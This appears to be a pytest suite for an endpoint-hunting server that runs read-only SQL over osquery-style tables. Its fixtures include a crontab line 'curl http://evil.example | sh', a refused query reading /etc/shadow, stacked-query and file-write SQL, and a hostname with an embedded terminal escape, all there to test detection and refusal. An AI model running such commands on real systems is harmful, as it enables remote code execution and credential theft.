"""Questions in SQL to this machine: the tables of osquery, and nothing else whatever is written."""

import os
import socket
import struct
import time
from datetime import timedelta
from pathlib import Path

import pytest

from servers.endpoint.local.auditlog import AuditLog
from servers.endpoint.local.query import MOST_ANSWERS, MOST_ROWS, Table, answer
from servers.endpoint.local.tables import LocalTables, Places, local_tables
from servers.endpoint.server import build
from servers.endpoint.settings import EndpointSettings
from servers.errors import ToolError
from tests.servers.acting import Analyst, analyst, part
from tests.servers.endpoint.processes import child

NUMBERS = {"n": Table({"v": "INTEGER"}, lambda: ((number,) for number in range(MOST_ROWS + 5)))}


@pytest.fixture
def soc(tmp_path: Path) -> Analyst:
    """A server over this machine."""
    return analyst(build, EndpointSettings(backend="local"), tmp_path)


async def rows(soc: Analyst, sql: str) -> list[list[object]]:
    """The rows of an answer."""
    found = part(await soc.asks("query", sql=sql, limit=200), "data", "values")
    assert isinstance(found, list)
    return found


async def test_running_process_and_its_open_port_are_found(soc: Analyst) -> None:
    """The question of every hunt: what listens here, and what is it."""
    with socket.create_server(("127.0.0.1", 0)) as listener, child("sleep", "300") as sleeper:
        port = listener.getsockname()[1]
        sql = "SELECT p.pid FROM listening_ports l JOIN processes p ON p.pid = l.pid WHERE l.port = "
        owner = await rows(soc, sql + str(port))
        asleep = await rows(soc, f"SELECT name, cmdline, parent FROM processes WHERE pid = {sleeper.pid}")

    assert owner == [[os.getpid()]]
    assert asleep == [["sleep", "sleep 300", os.getpid()]]


async def test_what_a_process_calls_itself_is_outside_text(soc: Analyst) -> None:
    """A command line is written by whoever starts the program; so is whatever SQL made of it."""
    with child("sleep", "300") as sleeper:
        found = await soc.asks("query", sql=f"SELECT pid AS id, cmdline FROM processes WHERE pid = {sleeper.pid}")

    assert "$.values" in str(part(found, "untrusted")) or "values" in str(part(found, "untrusted"))
    assert "sleep" not in str(part(found, "summary"))


@pytest.mark.parametrize(
    "sql",
    [
        "DELETE FROM users",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM temp.sqlite_master",
        "SELECT * FROM pragma_database_list",
        "PRAGMA database_list",
        "ATTACH DATABASE '{home}/out' AS z",
        "VACUUM INTO '{home}/out'",
        "CREATE TABLE z(a)",
        "INSERT INTO users(uid) VALUES (1)",
        "UPDATE users SET uid = 0",
        "SELECT 1; DELETE FROM users",
        "SELECT load_extension('{home}/out')",
        "SELECT readfile('/etc/shadow')",
        "SELECT writefile('{home}/out', 'a')",
        "SELECT randomblob(1000)",
        "SELECT zeroblob(1000)",
        "SELECT printf('%.*c', 90000, 'x')",
        "SELECT * FROM json_each('[1]')",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
        "EXPLAIN SELECT 1",
        "QUERY PLAN SELECT 1",
        "BEGIN IMMEDIATE",
        "SELECT uid FROM users WHERE uid = ?",
        "SELECT nonsense FROM users",
        "SELECT '\0'",
        "gibberish",
    ],
)
async def test_nothing_but_a_select_on_these_tables_runs(soc: Analyst, tmp_path: Path, sql: str) -> None:
    """Whoever is told by a log line to write such SQL gets nowhere, and the refusal quotes nothing of it."""
    found = await soc.asks("query", sql=sql.format(home=tmp_path))

    assert (found["status"], part(found, "error", "code")) == ("error", "invalid_query")
    assert not (tmp_path / "out").exists()
    assert "nonsense" not in str(found)
    assert "gibberish" not in str(found)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT count(*) FROM n a, n b, n c, n d",
        "SELECT a.v FROM n a, n b, n c ORDER BY b.v * c.v, a.v",
        "SELECT a.v FROM n a, n b, n c, n d, n e",
        "SELECT group_concat(a.v) FROM n a, n b",
        "WITH b AS (SELECT group_concat(v) AS g FROM n) SELECT b.g, n.v FROM n, b",
        "SELECT length(replace(hex(group_concat(v)), '3', hex(group_concat(v)))) FROM n",
    ],
)
def test_query_without_end_is_ended(sql: str) -> None:
    """One question may neither stop the server nor fill its memory."""
    began = time.monotonic()
    with pytest.raises(ToolError):
        answer(sql, NUMBERS)

    assert time.monotonic() - began < 5


def test_bounds_are_told() -> None:
    """A table cut short must not look whole."""
    found = answer("SELECT v FROM n", NUMBERS)

    assert (len(found.rows), found.more, found.cut) == (MOST_ANSWERS, True, ("n",))


def test_only_the_tables_that_are_asked_are_filled() -> None:
    """Looking costs, and looking can be noticed."""
    filled: list[str] = []

    def table(name: str) -> Table:
        return Table({"v": "INTEGER"}, lambda: (filled.append(name), [(1,)])[1])

    answer(
        "SELECT a.v FROM one a WHERE EXISTS (SELECT 1 FROM two)", {name: table(name) for name in ("one", "two", "x")}
    )

    assert sorted(filled) == ["one", "two"]


def test_logons_of_wtmp_are_read(tmp_path: Path) -> None:
    """A record as login writes it; the host is what the client's address resolved to."""
    record = struct.Struct("<h2xi32s4s32s256shhiii4I20x")
    address = int.from_bytes(socket.inet_aton("203.0.113.9"), "little")
    who = (b"pts/0", b"ts/0", b"root", b"evil\x1b[31m.example")
    entry = record.pack(7, 4242, *who, 0, 0, 1, 1_790_000_000, 5, address, 0, 0, 0)
    (tmp_path / "wtmp").write_bytes(entry + entry[:100])
    tables = local_tables(None, Places(wtmp=tmp_path / "wtmp"))
    found = answer("SELECT username, tty, pid, type_name, time, host FROM last", tables)

    assert found.rows == [["root", "pts/0", 4242, "user", 1_790_000_000, "203.0.113.9"]]


async def test_table_that_cannot_be_filled_is_no_empty_one(tmp_path: Path) -> None:
    """A system that keeps no records of logons, an audit log that fell silent, and a crontab that is read in part
    clear nobody."""
    (tmp_path / "utmp").touch()
    (tmp_path / "cron.d").mkdir()
    (tmp_path / "cron.d" / "padded").write_bytes(b"#" * 1_000_001)
    places = Places(tmp_path / "utmp", tmp_path / "none", etc=tmp_path, crontabs=(tmp_path / "spool",))
    log = tmp_path / "audit.log"
    log.write_text("type=SYSCALL msg=audit(1790000000.100:1): success=yes\n")
    tables = LocalTables(local_tables(AuditLog(log, timedelta(minutes=60)), places))
    names = ("last", "logged_in_users", "process_events", "process_file_events", "crontab", "users")
    found = {name: tables.query(f"SELECT * FROM {name}", 20, None).stale for name in names}

    assert [name for name in names if found[name] is None] == ["users"]


def test_crontabs_are_read_as_cron_reads_them(tmp_path: Path) -> None:
    """Where attackers like to stay."""
    (tmp_path / "cron.d").mkdir()
    (tmp_path / "spool").mkdir()
    (tmp_path / "crontab").write_text("# no\nPATH=/bin\n5 4 * * 1-5 root run  --all\n@reboot daemon start me\nbroken\n")
    (tmp_path / "spool" / "eve").write_text("*/5 * * * * curl http://evil.example | sh\n")
    tables = local_tables(None, Places(etc=tmp_path, crontabs=(tmp_path / "spool",)))
    found = answer("SELECT event, minute, day_of_week, command FROM crontab", tables)

    assert found.rows == [
        ["", "5", "1-5", "run  --all"],
        ["@reboot", "", "", "start me"],
        ["", "*/5", "*", "curl http://evil.example | sh"],
    ]
